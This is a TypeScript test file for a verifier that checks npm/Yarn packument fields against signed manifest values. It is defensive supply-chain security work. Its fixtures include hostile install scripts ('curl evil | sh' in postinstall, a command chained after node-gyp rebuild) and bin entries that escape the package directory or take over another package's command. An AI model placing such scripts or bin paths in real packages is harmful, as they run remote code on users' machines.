import { test } from 'node:test';
import assert from 'node:assert/strict';
import { escapingBins, manifestFieldProblems, parseManifestFields, uncheckableFields, type SignedManifestFields } from '../src/manifest-fields.js';

const signed: SignedManifestFields = {
  bin: { binpkg: 'index.js', helper: 'bin/helper.js' },
  os: ['linux', 'darwin'], cpu: 'x64',
  engines: { node: '>=18' },
  bundleDependencies: ['a', 'b'],
  optionalPeers: ['react'],
  installScripts: { install: 'node-gyp rebuild' },
  nodeGyp: true,
};

test('parses the signed manifest fields strictly: absent for older targets, malformed kept apart', () => {
  assert.deepEqual(parseManifestFields(undefined), { kind: 'absent' });
  assert.deepEqual(parseManifestFields({ npm: { dependencies: {} } }), { kind: 'absent' }, 'signed before manifest fields');
  assert.deepEqual(parseManifestFields({ npm: { manifestFields: 1 } }), { kind: 'signed', value: {} });
  assert.deepEqual(parseManifestFields({ npm: { manifestFields: 1, ...signed, dependencies: { a: '1' } } }), { kind: 'signed', value: signed });
  for (const bad of [
    { manifestFields: 2 }, { manifestFields: 1, bin: { x: '../y' } }, { manifestFields: 1, bin: { x: './y' } }, { manifestFields: 1, bin: [] },
    { manifestFields: 1, os: [] }, { manifestFields: 1, os: [1] }, { manifestFields: 1, engines: { node: 1 } },
    { manifestFields: 1, bundleDependencies: false }, { manifestFields: 1, optionalPeers: 'react' },
    { manifestFields: 1, installScripts: { test: 'x' } }, { manifestFields: 1, installScripts: {} }, { manifestFields: 1, nodeGyp: false },
  ]) {
    assert.equal(parseManifestFields({ npm: bad }).kind, 'malformed', JSON.stringify(bad).slice(0, 80));
  }
});

test('accepts the signed fields as npm and Yarn spell them, and fewer bins or install scripts', () => {
  assert.deepEqual(manifestFieldProblems('binpkg', signed, {
    bin: { binpkg: './index.js', '@scope/helper': 'bin\\helper.js' }, os: ['darwin', 'linux'], cpu: ['x64'], libc: null,
    engines: { node: '>=18' }, bundledDependencies: ['b', 'a'], peerDependenciesMeta: { react: { optional: true }, vue: {} },
    scripts: { install: 'node-gyp rebuild', test: 'anything' }, hasInstallScript: true,
  }), []);
  assert.deepEqual(manifestFieldProblems('binpkg', signed, { bin: 'index.js', scripts: {} }), [], 'a string bin is the package\'s own command');
  assert.deepEqual(manifestFieldProblems('binpkg', signed, {}), [], 'fields the installer does not read');
  assert.deepEqual(manifestFieldProblems('p', {}, { bin: null, os: null, cpu: [], engines: null, bundleDependencies: null, peerDependenciesMeta: null, scripts: null }), []);
  assert.deepEqual(manifestFieldProblems('p', {}, { yarnConditions: { resolved: null, signed: null } }), []);
});

test('rejects a bin map rewritten in the packument: another file under the package\'s command, another package\'s command', () => {
  const problems = manifestFieldProblems('binpkg', signed, { bin: { binpkg: 'danger.js', eslint: 'danger.js' } });
  assert.equal(problems.length, 2);
  assert.match(problems[0]!, /bin binpkg -> danger\.js differs from the signed index\.js/);
  assert.match(problems[1]!, /bin eslint -> danger\.js is not a bin of the signed package/);
  assert.equal(manifestFieldProblems('p', {}, { bin: { p: 'index.js' } }).length, 1, 'a package signed without bins');
});

test('rejects a bin escaping the package directory, for any target', () => {
  for (const path of ['../danger.js', '/usr/bin/env', 'a/../../x', 'C:\\x', '..\\x', 7]) {
    assert.equal(escapingBins('p', { bin: { p: path } }).length, 1, String(path));
  }
  assert.equal(escapingBins('p', { bin: '../x' }).length, 1);
  assert.deepEqual(escapingBins('p', { bin: { p: 'a/../b.js', q: './c' } }), []);
});

test('rejects rewritten os/cpu/libc, Yarn conditions, engines, bundled dependencies, optional peers and install scripts', () => {
  const one = (declared: Parameters<typeof manifestFieldProblems>[2], re: RegExp): void => {
    const problems = manifestFieldProblems('binpkg', signed, declared);
    assert.equal(problems.length, 1, `${JSON.stringify(declared)}: ${problems.join('; ')}`);
    assert.match(problems[0]!, re);
  };
  one({ os: ['linux', 'darwin', 'win32'] }, /^os /);
  one({ os: null }, /^os /);
  one({ cpu: ['arm64'] }, /^cpu /);
  one({ libc: ['musl'] }, /^libc /);
  one({ yarnConditions: { resolved: null, signed: 'os=linux' } }, /^conditions /);
  one({ engines: { node: '*' } }, /^engines /);
  one({ engines: { node: '>=18', npm: '>=9' } }, /^engines /);
  one({ engines: {} }, /^engines /);
  // none at all: what the release-list check leaves after dropping the unsigned engines (ADR 0013)
  assert.deepEqual(manifestFieldProblems('binpkg', signed, { engines: null }), []);
  one({ bundleDependencies: ['a'] }, /^bundleDependencies /);
  one({ bundleDependencies: true }, /^bundleDependencies /);
  one({ peerDependenciesMeta: {} }, /^peerDependenciesMeta /);
  one({ scripts: { postinstall: 'curl evil | sh' } }, /^scripts\.postinstall /);
  one({ scripts: { install: 'node-gyp rebuild && curl evil' } }, /^scripts\.install /);
  one({ scripts: 'x' }, /^scripts /);
  assert.match(manifestFieldProblems('p', {}, { hasInstallScript: true })[0]!, /hasInstallScript true/);
});

test('a target signed without manifest fields names the fields an installer would act on unchecked', () => {
  assert.deepEqual(uncheckableFields('p', { bin: null, os: null, engines: { node: '>=18' }, scripts: { test: 'x' }, hasInstallScript: false }), []);
  assert.deepEqual(uncheckableFields('p', { bin: { p: 'x.js' }, os: ['linux'], yarnConditions: { resolved: 'os=linux', signed: null }, bundleDependencies: ['a'], peerDependenciesMeta: { a: { optional: true } }, scripts: { postinstall: 'x' }, hasInstallScript: true }),
    ['bin', 'os', 'conditions', 'bundleDependencies', 'peerDependenciesMeta', 'scripts', 'hasInstallScript']);
});

test('rejects os/cpu/libc nested 20,000 arrays deep in the packument as a differing field, not a RangeError (issue 19)', () => {
  let deep: unknown = 'linux';
  for (let i = 0; i < 20_000; i++) deep = [deep];
  const problems = manifestFieldProblems('left', { os: ['linux'] }, { os: deep as string[] });
  assert.deepEqual(problems, ['os (a value nested too deep to show) differs from the signed ["linux"]']);
});
